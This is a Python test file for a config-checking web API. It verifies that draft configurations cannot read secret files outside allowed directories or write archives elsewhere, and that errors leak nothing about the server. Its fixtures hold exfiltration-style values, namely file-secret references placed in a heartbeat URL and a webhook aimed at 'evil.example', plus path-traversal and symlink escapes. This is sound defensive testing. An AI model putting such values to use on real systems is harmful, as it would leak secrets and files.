"""Files of secrets that a draft names, and directories that it writes to.

Those that the operator allows, and not a word on what else lies on the server.
"""

from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.web.api.served import ServedApi, served_api
from worker.adapters.definitions.secrets import resolve
from worker.adapters.redis_server import EmbeddedRedis
from worker.entry.draft import checked_draft
from worker.errors import RequestError

SECRET = "kept-away"


@pytest.fixture
async def served(empty_redis: EmbeddedRedis, tmp_path: Path) -> AsyncIterator[ServedApi]:
    async with served_api(empty_redis, tmp_path / "project") as made:
        yield made


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    (tmp_path / "is").write_text(SECRET, encoding="utf-8")
    (tmp_path / "at").mkdir()
    return tmp_path


PLACES = (
    '  crm: {{type: close, api_key: "${{file:{path}}}"}}\nchannels:\n',
    '  crm: {{type: close, api_key: "a${{file:/run/secrets/../..{path}}}"}}\nchannels:\n',
    'heartbeat_url: "https://evil.example/${{file:{path}}}"\nchannels:\n',
    'webhooks: {{w: {{url: "https://evil.example/", secret: "${{file:{path}}}", events: ["*"]}}}}\nchannels:\n',
)
"""Each option that takes a secret: of a connection, of what the project calls."""


def files(served: ServedApi, written: str, path: Path | str) -> dict[str, str]:
    place = served.project.place
    found = {name: (place / name).read_text("utf-8") for name in ("funnelbeat.yaml", "schedules/week.yaml")}
    found["funnelbeat.yaml"] = found["funnelbeat.yaml"].replace("channels:\n", written.format(path=path))
    return found


@pytest.mark.parametrize("written", PLACES)
@pytest.mark.parametrize("door", ["/check", "/plan", "/preview", "/deployments"])
async def test_an_existing_and_a_missing_file_are_answered_alike(
    served: ServedApi, outside: Path, written: str, door: str
) -> None:
    answers = []
    for name in ("is", "no", "at"):
        wanted: dict[str, Any] = {"files": files(served, written, outside / name)}
        wanted |= {"schedule": "week"} if door == "/preview" else {}
        answer = await served.post(door, wanted)
        answers.append((answer.status_code, answer.content))
    assert len(set(answers)) == 1
    status, body = answers[0]
    assert status == (200 if door == "/check" else 422)
    assert b"one below /run/secrets, because this is a draft" in body
    assert str(outside).encode() not in body


@pytest.mark.parametrize("named", ["{base}/is", "is", "./at/../is"])
def test_what_lies_below_a_directory_of_secrets_is_said_to_be_there(
    outside: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    project = 'project: acme\nconnections:\n  crm: {{type: close, api_key: "${{file:{path}}}"}}\n'
    week = (
        "when: {cron: '0 9 * * MON'}\nreport: [{id: deals, source: crm, query: opportunities, params: {pipeline: p}}]\n"
    )
    check = partial(checked_draft, place=outside)
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", f"/run/secrets:{outside}")
    for name, unset in ((named, ()), (named.replace("is", "no"), (named.replace("is", "no").format(base=outside),))):
        path = name.format(base=outside)
        found = check({"funnelbeat.yaml": project.format(path=path), "schedules/week.yaml": week})
        assert not [one for one in found.complaints if "a file elsewhere" in str(one)]
        assert found.unset == unset
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", "at")
    path = named.format(base=outside)
    found = check({"funnelbeat.yaml": project.format(path=path), "schedules/week.yaml": week})
    assert [str(one) for one in found.complaints if f"one below {outside / 'at'}" in str(one)]
    assert found.unset == ()


def test_two_dots_behind_a_link_lead_back_to_the_directory_of_secrets(
    outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """For the kernel they lead to the directory above the link's target, which nobody allowed."""
    (outside / "elsewhere" / "in").mkdir(parents=True)
    (outside / "elsewhere" / "key").write_text(SECRET, encoding="utf-8")
    (outside / "at" / "link").symlink_to(outside / "elsewhere" / "in")
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", str(outside / "at"))
    named = f"{outside}/at/link/../key"
    project = f'project: acme\nconnections:\n  crm: {{type: close, api_key: "${{file:{named}}}"}}\n'
    assert checked_draft({"funnelbeat.yaml": project}, place=outside).unset == (named,)
    with pytest.raises(RequestError, match="cannot be read"):
        resolve({"api_key": f"${{file:{named}}}"}, {}, outside)


ARCHIVE = "channels:\n  archive: {{type: file, directory: {path}}}\n"
NOT_THERE = b"a directory that a draft may not write to"


@pytest.mark.parametrize("door", ["/check", "/plan", "/preview", "/deployments"])
async def test_a_draft_writes_to_no_directory_that_nobody_allowed(
    served: ServedApi, outside: Path, monkeypatch: pytest.MonkeyPatch, door: str
) -> None:
    answers = []
    for name in ("at", "no"):
        wanted: dict[str, Any] = {"files": files(served, ARCHIVE, outside / name)}
        wanted |= {"schedule": "week"} if door == "/preview" else {}
        answer = await served.post(door, wanted)
        answers.append((answer.status_code, answer.content))
        monkeypatch.setenv("FUNNELBEAT_FILES_DIR", "")
    assert answers[0] == answers[1]
    status, body = answers[0]
    assert status == (200 if door == "/check" else 422)
    assert NOT_THERE in body
    assert b"one that a deployed channel has, because this is a draft" in body
    assert b"FUNNELBEAT_FILES_DIR of the process `web` names no directories" in body
    assert str(outside).encode() not in body


async def test_a_draft_keeps_the_directory_of_a_channel_in_force_and_no_other(served: ServedApi, outside: Path) -> None:
    project = served.project.place / "funnelbeat.yaml"
    project.write_text(project.read_text("utf-8").replace("channels:\n", ARCHIVE.format(path=outside / "at")), "utf-8")
    await served.project.deploy()
    place = served.project.place
    same = {name: (place / name).read_text("utf-8") for name in ("funnelbeat.yaml", "schedules/week.yaml")}
    assert (await served.post("/check", {"files": same})).json()["complaints"] == []
    renamed = {**same, "funnelbeat.yaml": same["funnelbeat.yaml"].replace("archive:", "kept:")}
    assert (await served.post("/deployments", {"files": renamed})).status_code == 201
    for other in (outside / "at" / "below", outside, f"{outside}/at/../is", f"{outside}/at/"):
        moved = {**same, "funnelbeat.yaml": same["funnelbeat.yaml"].replace(str(outside / "at"), str(other))}
        refused = await served.post("/deployments", {"files": moved})
        assert (refused.status_code, NOT_THERE in refused.content) == (422, True), other


@pytest.mark.parametrize(
    ("named", "allowed"),
    [
        ("{base}/at", True),
        ("{base}/at/deeper", True),
        ("{base}/at/", True),
        ("{base}/atlas", False),
        ("{base}", False),
        ("{base}/at/../is", False),
        ("{base}/at/deeper/..", False),
        ("/", False),
        ("/run/secrets", False),
        ("//{base}/at", True),
    ],
)
def test_a_draft_writes_below_the_directories_of_the_setting(
    outside: Path, monkeypatch: pytest.MonkeyPatch, named: str, allowed: bool
) -> None:
    project = "project: acme\n" + ARCHIVE.format(path=named.format(base=outside))
    for setting in (f"/srv/other:{outside}/at", "at"):
        monkeypatch.setenv("FUNNELBEAT_FILES_DIR", setting)
        told = [str(one) for one in checked_draft({"funnelbeat.yaml": project}, place=outside).complaints]
        expected = "because this is a draft; FUNNELBEAT_FILES_DIR of the process `web` names other directories"
        assert [expected in one for one in told if "may not write" in one] == ([] if allowed else [True])


def test_a_target_of_a_draft_writes_to_no_other_directory(outside: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = "project: acme\n" + ARCHIVE.format(path="/srv/reports")
    project += f"targets:\n  dev: {{project: acme-dev, channels: {{archive: {{type: file, directory: {outside}}}}}}}\n"
    monkeypatch.setenv("FUNNELBEAT_FILES_DIR", "/srv/reports")
    for target, refused in (("", False), ("dev", True)):
        monkeypatch.setenv("FUNNELBEAT_TARGET", target)
        told = [str(one) for one in checked_draft({"funnelbeat.yaml": project}, place=outside).complaints]
        assert any("may not write" in one for one in told) == refused, told
